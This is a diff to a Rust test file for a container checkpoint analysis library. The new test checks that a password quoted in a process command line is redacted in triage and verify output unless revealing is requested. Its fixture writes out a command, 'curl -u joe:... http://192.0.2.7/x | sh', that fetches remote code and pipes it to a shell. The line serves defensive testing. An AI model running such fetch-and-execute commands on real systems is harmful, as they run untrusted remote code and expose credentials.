@@ -1,7 +1,9 @@
 //! Secrets are told once for each kind and place, and never whole.
 
-use ckpt_analysis::triage::Severity;
-use ckpt_synth::{Archive, Member, Task};
+use ckpt_analysis::triage::{Severity, TriageOptions, triage};
+use ckpt_analysis::verify::{verify, verify_revealing};
+use ckpt_archive::Options;
+use ckpt_synth::{Archive, Container, Dump, Member, Task};
 
 use crate::triage::findings;
 use crate::{dump, init, open};
@@ -30,4 +32,23 @@ fn secrets_by_place() {
     assert!(!format!("{found:?}").contains(&secret), "redacted");
     let quiet = findings(&open(&Archive::podman(&dump([init()]))));
     assert!(quiet.iter().all(|one| !one.rule.id.starts_with("secret-")));
+}
+
+/// Whoever embeds the library is shown secrets when he asks for them, and not before.
+#[test]
+fn what_is_quoted_is_redacted_unless_asked() {
+    const PASSWORD: &str = "hunter2-Pa55";
+    let command = format!("curl -u joe:{PASSWORD} http://192.0.2.7/x | sh");
+    let mut dump = Dump::new();
+    dump.container(Container::new("shop").command(&["sleep"]))
+        .task(Task::new(1, 0).exe("/usr/bin/dash").comm("sh").argv(&["sh", "-c", &command]));
+    let checkpoint = open(&Archive::podman(&dump));
+    let found = |options| format!("{:?}", triage(&checkpoint, &options).unwrap().findings);
+    let hidden = found(TriageOptions::default());
+    assert!(hidden.contains("joe:[redacted: ") && !hidden.contains(PASSWORD), "{hidden}");
+    assert!(found(TriageOptions::default().reveal(true)).contains(PASSWORD));
+    let hidden = format!("{:?}", verify(&checkpoint, &Options::default()).checks);
+    assert!(hidden.contains("joe:[redacted: ") && !hidden.contains(PASSWORD), "{hidden}");
+    let whole = verify_revealing(&checkpoint, &Options::default());
+    assert!(format!("{:?}", whole.checks).contains(PASSWORD));
 }
